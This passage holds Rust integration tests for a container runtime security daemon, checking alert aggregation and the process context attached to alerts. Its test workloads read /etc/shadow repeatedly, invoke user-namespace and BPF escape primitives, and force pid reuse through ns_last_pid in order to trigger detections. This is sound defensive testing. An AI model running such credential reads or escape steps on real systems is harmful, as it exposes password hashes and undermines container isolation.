    let events: Vec<Value> = record.lines().filter_map(|l| serde_json::from_str(l).ok()).collect();
    let web_execs = events.iter().filter(|e| e["type"] == "exec" && e["pod"]["name"] == WEB).count();
    let client_execs = events.iter().filter(|e| e["type"] == "exec" && e["pod"]["name"] == CLIENT).count();
    let opens = events.iter().filter(|e| e["type"] == "open").count();
    println!("{} events recorded ({web_execs} execs in web, {client_execs} in client, {opens} opens), {:.1} s", events.len(), started.elapsed().as_secs_f64());
    assert!(web_execs >= 2 && client_execs >= 5, "the daemon saw too little of the workload to judge it (web {web_execs}, client {client_execs} execs)");
    assert!(
        alerts.is_empty(),
        "benign workload raised {} rule alerts:\n{}\n\nworkload:\n{}",
        alerts.len(),
        alerts.iter().map(|a| format!("{} {}/{}: {}", a["rule"]["id"], a["pod"]["namespace"], a["pod"]["name"], a["message"])).collect::<Vec<_>>().join("\n"),
        notes.join("\n")
    );
}

/// Re-records testdata/scenarios/recorded-mix.jsonl: the benign workload, then every attack
/// variant, through one daemon with --record; host-specific strings are replaced.
#[test]
#[ignore = "re-records testdata/scenarios/recorded-mix.jsonl"]
fn record_mix() {
    if !require_kernel("record_mix") {
        return;
    }
    let variants = variants();
    let mut pods = attack_pods(&variants);
    pods.push((WEB.into(), WEB_IP.into()));
    pods.push((CLIENT.into(), CLIENT_IP.into()));
    let pod_refs: Vec<(&str, &str)> = pods.iter().map(|(n, i)| (n.as_str(), i.as_str())).collect();
    let daemon = DaemonGuard::start(DaemonOptions::new("scnrecord", &inventory(&pod_refs)).record());
    run_benign(&daemon);
    let outcomes = run_attacks(&daemon, &variants);
    std::thread::sleep(Duration::from_secs(2));
    let record = std::fs::read_to_string(daemon.record_path.as_ref().expect("record")).expect("record");
    let sanitize = Sanitizer {
        node: std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default().trim().to_string(),
        replacements: vec![
            (daemon.work.display().to_string(), "/srv/scenario".to_string()),
            (PALISADE.to_string(), "/usr/local/bin/palisade".to_string()),
            (format!("/tmp/palisade-{}", daemon.lab_name), "/tmp/palisade-payload".to_string()),
            (format!("/etc/palisade-{}", daemon.lab_name), "/etc/palisade-test".to_string()),
            (daemon.lab_name.clone(), "lab".to_string()),
            (std::env::current_exe().expect("test binary").display().to_string(), Sanitizer::SHIM_EXE.to_string()),
            (env!("CARGO_MANIFEST_DIR").to_string(), "/srv/app".to_string()),
            (support::daemon::repo_root().canonicalize().expect("repo root").display().to_string(), "/srv/palisade".to_string()),
        ],
        harness_exe: std::env::current_exe().expect("test binary").display().to_string(),
        harness_comm: std::thread::current().name().unwrap_or("record_mix").chars().take(15).collect(),
    };
    let mut out = String::new();
    let mut lines = 0;
    for line in record.lines() {
        // Keep only well-formed events.
        let Ok(mut event) = serde_json::from_str::<Value>(line) else { continue };
        sanitize.event(&mut event);
        out.push_str(&event.to_string());
        out.push('\n');
        lines += 1;
    }
    let dest = support::daemon::repo_root().join("testdata/scenarios/recorded-mix.jsonl");
    std::fs::create_dir_all(dest.parent().expect("parent")).expect("testdata/scenarios");
    std::fs::write(&dest, out).expect("write recording");
    let ok = outcomes.iter().filter(|o| o.found == Some(true)).count();
    println!("{}", report(&outcomes, &daemon.rule_alerts()));
    println!("recorded {lines} events to {} ({ok}/{} attack variants alerted)", dest.display(), outcomes.len());
}

/// Makes a recording shareable: no host names, test paths or the test harness's own ancestry.
/// Processes started by the harness look like a container runtime's children.
struct Sanitizer {
    node: String,
    replacements: Vec<(String, String)>,
    harness_exe: String,
    /// The name a forked child carries until it execs (the test thread's).
    harness_comm: String,
}

impl Sanitizer {
    const SHIM_COMM: &'static str = "containerd-shim";
    const SHIM_EXE: &'static str = "/usr/bin/containerd-shim-runc-v2";

    fn event(&self, event: &mut Value) {
        self.strings(event);
        if !self.node.is_empty() && event["node"] == self.node.as_str() {
            event["node"] = "node-1".into();
        }
        let process = &mut event["process"];
        if process["exe"] == self.harness_exe.as_str() || process["exe"] == Self::SHIM_EXE {
            process["exe"] = Self::SHIM_EXE.into();
            process["comm"] = Self::SHIM_COMM.into();
            process["cmdline"] = Value::Array(vec![Self::SHIM_EXE.into()]);
        }
        if process["cmdline"][0] == Self::SHIM_EXE {
            process["cmdline"] = Value::Array(vec![Self::SHIM_EXE.into()]);
        }
        if process["comm"] == self.harness_comm.as_str() {
            process["comm"] = "runc:[2:INIT]".into();
        }
        if let Some(ancestors) = process["ancestors"].as_array_mut() {
            // Everything above the harness is the developer's machine, not the pod.
            if let Some(i) = ancestors.iter().position(|a| a["exe"] == self.harness_exe.as_str() || a["exe"] == Self::SHIM_EXE) {
                ancestors.truncate(i + 1);
                ancestors[i]["comm"] = Self::SHIM_COMM.into();
                ancestors[i]["exe"] = Self::SHIM_EXE.into();
            }
        }
    }

    fn strings(&self, value: &mut Value) {
        match value {
            Value::String(s) => {
                for (from, to) in &self.replacements {
                    if s.contains(from.as_str()) {
                        *s = s.replace(from.as_str(), to);
                    }
                }
            }
            Value::Array(items) => items.iter_mut().for_each(|v| self.strings(v)),
            Value::Object(map) => map.values_mut().for_each(|v| self.strings(v)),
            _ => {}
        }
    }
}

/// Issue 12, aggregation: a second, *different* escape primitive in the same pod 100 ms after
/// the first is its own alert, written at once (not folded into a follow-up that would come a
/// window later, stamped with the flush time); 1,000 identical repeats are one alert plus one
/// counted follow-up. Dry run, so both primitives have the same outcome (`would_quarantine`)
/// and only the behaviour tells them apart; a long window, so a held-back alert could only show
/// up as a follow-up (which the checks below reject).
#[test]
fn distinct_primitives_are_never_held_back_and_repeats_fold_into_a_counted_follow_up() {
    if !require_kernel("distinct_primitives_are_never_held_back_and_repeats_fold_into_a_counted_follow_up") {
        return;
    }
    const ESCAPE: &str = "agg-escape";
    const REPEAT: &str = "agg-repeat";
    const REPEATS: u64 = 1000;
    let inv = inventory(&[(ESCAPE, "198.18.2.10"), (REPEAT, "198.18.2.11")]);
    let daemon = DaemonGuard::start(
        DaemonOptions::new("scnaggregate", &inv).arg("--dry-run").arg("--alerts-aggregate-window").arg("4s"),
    );
    let script = format!("{PALISADE} workload unshare-user; sleep 0.1; exec {PALISADE} workload bpf");
    let out = daemon.exec_in(&Ctx::key(ESCAPE), &["sh", "-c", &script]);
    let escape_alert = |event_type: &'static str| {
        move |a: &Value| is_alert_for(a, "container_escape", ESCAPE) && a["event"]["type"] == event_type && a["count"] == 1
    };
    let unshare = daemon.wait_for_alert(escape_alert("namespace"), Duration::from_secs(15));
    let bpf = daemon.wait_for_alert(escape_alert("bpf"), Duration::from_secs(15));
    let escape_alerts: Vec<Value> = daemon.rule_alerts().into_iter().filter(|a| a["pod"]["name"] == ESCAPE).collect();
    let shown = |alerts: &[Value]| {
        alerts.iter().map(|a| format!("{} count {} follows {} time {}: {}", a["rule"]["id"], a["count"], a["follows"], a["time"], a["message"])).collect::<Vec<_>>().join("\n")
    };
    let (Some(unshare), Some(bpf)) = (unshare, bpf) else {
        panic!("two primitives in {ESCAPE} did not give two alerts of their own (workload: {}):\n{}", summary(&out), shown(&escape_alerts));
    };
    for a in [&unshare, &bpf] {
        assert!(a["follows"].is_null(), "a new primitive came as a follow-up: {a}");
        assert_eq!(a["time"], a["event"]["time"], "an alert carries its event's own time: {a}");
        assert_eq!(a["outcome"], "would_quarantine");
    }
    assert!(unshare["time"].as_str() < bpf["time"].as_str(), "unshare came first: {} vs {}", unshare["time"], bpf["time"]);
    // How late each alert was written after its event (its id is taken when it is made).
    let lag = |a: &Value| {
        let id = a["id"].as_str().and_then(|id| i64::from_str_radix(id.split('-').next()?, 16).ok()).unwrap_or(0);
        let event = palisade::alerts::time::parse_rfc3339(a["time"].as_str().unwrap_or("")).unwrap_or(0);
        (id - event) as f64 / 1000.0
    };
    println!("unshare alert {:.1} ms after its event, bpf alert {:.1} ms after its event", lag(&unshare), lag(&bpf));

    // 1,000 identical opens of /etc/shadow by one process.
    let out = daemon.exec_in(&Ctx::key(REPEAT), &[PALISADE, "workload", "open-loop", &REPEATS.to_string(), "/etc/shadow"]);
    assert!(out.status.success(), "open-loop: {}", summary(&out));
    let follow_up = daemon.wait_for_alert(|a| is_alert_for(a, "credential_read", REPEAT) && !a["follows"].is_null(), Duration::from_secs(20));
    std::thread::sleep(Duration::from_millis(300));
    let repeats: Vec<Value> = daemon.rule_alerts().into_iter().filter(|a| is_alert_for(a, "credential_read", REPEAT)).collect();
    let losses: Vec<Value> = daemon.alerts().into_iter().filter(|a| a["kind"] == "event_loss").collect();
    let Some(follow_up) = follow_up else {
        panic!("no counted follow-up for {REPEATS} identical opens:\n{}", shown(&repeats));
    };
    let firsts: Vec<&Value> = repeats.iter().filter(|a| a["follows"].is_null()).collect();
    assert_eq!(firsts.len(), 1, "one alert opens the burst:\n{}", shown(&repeats));
    assert_eq!(repeats.len(), 2, "one alert and one follow-up:\n{}", shown(&repeats));
    assert_eq!(follow_up["follows"], firsts[0]["id"]);
    assert_eq!(
        follow_up["count"].as_u64(),
        Some(REPEATS - 1),
        "the follow-up counts every repeat (losses: {losses:?})"
    );
    assert_eq!(follow_up["time"], follow_up["last_seen"]);
    assert_eq!(follow_up["last_seen"], follow_up["last_event"]["time"], "the follow-up carries its last occurrence's time");
    assert_eq!(follow_up["first_seen"], follow_up["event"]["time"]);
    assert!(follow_up["first_seen"].as_str() <= follow_up["last_seen"].as_str());
}

/// Issue 12, process context from the kernel: `cat /etc/shadow` that is gone the moment it
/// read the file, whose pid is then taken (via ns_last_pid) by another process that reads it
/// too. The first alert names cat -- its exe, argv, standard streams (stdin /dev/null, stdout
/// and stderr a pipe), its python parent and the pod -- though nothing of it is left by the time
/// the daemon sees the event; the second names the new process and nothing of cat's.
#[test]
fn process_context_is_the_kernels_at_the_event_and_a_reused_pid_inherits_nothing() {
    if !require_kernel("process_context_is_the_kernels_at_the_event_and_a_reused_pid_inherits_nothing") {
        return;
    }
    const POD: &str = "ctx-short";
    let python = python3().expect("python3 (the test drives the pid reuse with it)");
    let python_exe = std::fs::canonicalize(&python).expect("python3 path");
    let cat_exe = std::fs::canonicalize(system_program("cat").expect("cat")).expect("cat path");
    let daemon = DaemonGuard::start(DaemonOptions::new("scnprocctx", &inventory(&[(POD, "198.18.3.10")])));
    // The reader of the reused pid is this same python (so the reuse happens between two
    // forks of one process), run with another argv so the two are told apart.
    let script = r#"
import os, subprocess, sys
if len(sys.argv) > 1:
    open('/etc/shadow').read()
    sys.exit(0)
DEV = subprocess.DEVNULL
cat = subprocess.Popen(['cat', '/etc/shadow'], stdin=DEV, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
cat.communicate()
pid = cat.pid
for attempt in range(500):
    with open('/proc/sys/kernel/ns_last_pid', 'w') as f:
        f.write(str(pid - 1))
    second = subprocess.Popen([sys.executable, sys.argv[0], 'second'], stdin=DEV, stdout=DEV, stderr=DEV)
    if second.pid == pid:
        second.wait()
        break
    second.kill()
    second.wait()
print(pid, second.pid, attempt, flush=True)
"#;
    let script_path = daemon.scratch.join("reuse.py");
    std::fs::write(&script_path, script).expect("script");
    let out = daemon.exec_in(&Ctx::key(POD), &[&python.to_string_lossy(), &script_path.to_string_lossy()]);
    let printed = String::from_utf8_lossy(&out.stdout).to_string();
    let pids: Vec<u32> = printed.split_whitespace().filter_map(|w| w.parse().ok()).collect();
    assert!(out.status.success() && pids.len() == 3, "the script: {} / {printed:?}", summary(&out));
    let (cat_pid, second_pid) = (pids[0], pids[1]);
    assert_eq!(cat_pid, second_pid, "could not make a process reuse cat's pid in {} attempts", pids[2] + 1);
    println!("cat's pid {cat_pid} taken by the second reader after {} attempts", pids[2] + 1);

    let cmdline = |a: &Value| a["process"]["cmdline"].as_array().map(|c| c.iter().filter_map(Value::as_str).map(str::to_string).collect::<Vec<_>>()).unwrap_or_default();
    let for_pid = |a: &Value| is_alert_for(a, "credential_read", POD) && a["process"]["pid"] == cat_pid;
    let found = |want: &str| {
        let want = want.to_string();
        daemon.wait_for_alert(move |a| for_pid(a) && a["process"]["cmdline"].as_array().is_some_and(|c| c.last().and_then(Value::as_str) == Some(want.as_str())), Duration::from_secs(15))
    };
    let cat = found("/etc/shadow");
    let second = found("second");
    let alerts: Vec<String> = daemon.rule_alerts().iter().filter(|a| for_pid(a)).map(|a| a["process"].to_string()).collect();
    let (Some(cat), Some(second)) = (cat, second) else {
        panic!("both reads of pid {cat_pid} alert with their own command line; alerts for that pid:\n{}", alerts.join("\n"));
    };
    // The alert's summary (`process`) and the full context the rule saw (`event.process`).
    let p = &cat["event"]["process"];
    assert_eq!(cat["process"]["exe"], p["exe"]);
    assert_eq!(p["exe"], cat_exe.to_string_lossy().as_ref(), "cat's exe: {p}");
    assert_eq!(cmdline(&cat), vec!["cat", "/etc/shadow"], "{p}");
    assert_eq!((p["stdio"]["stdin"].as_str(), p["stdio"]["stdout"].as_str(), p["stdio"]["stderr"].as_str()), (Some("null"), Some("pipe"), Some("pipe")), "{p}");
    assert_eq!(p["ancestors"][0]["exe"], python_exe.to_string_lossy().as_ref(), "cat's parent is the python script: {p}");
    assert!(p["start_ns"].as_u64().is_some_and(|s| s > 0), "{p}");
    let q = &second["event"]["process"];
    assert_eq!(q["exe"], python_exe.to_string_lossy().as_ref(), "the new process on that pid: {q}");
    assert_eq!(cmdline(&second).last().map(String::as_str), Some("second"), "{q}");
    assert_eq!(q["stdio"]["stdout"], "null", "the new process's own streams, not cat's: {q}");
    assert_ne!(p["start_ns"], q["start_ns"], "two processes, two start times");
}
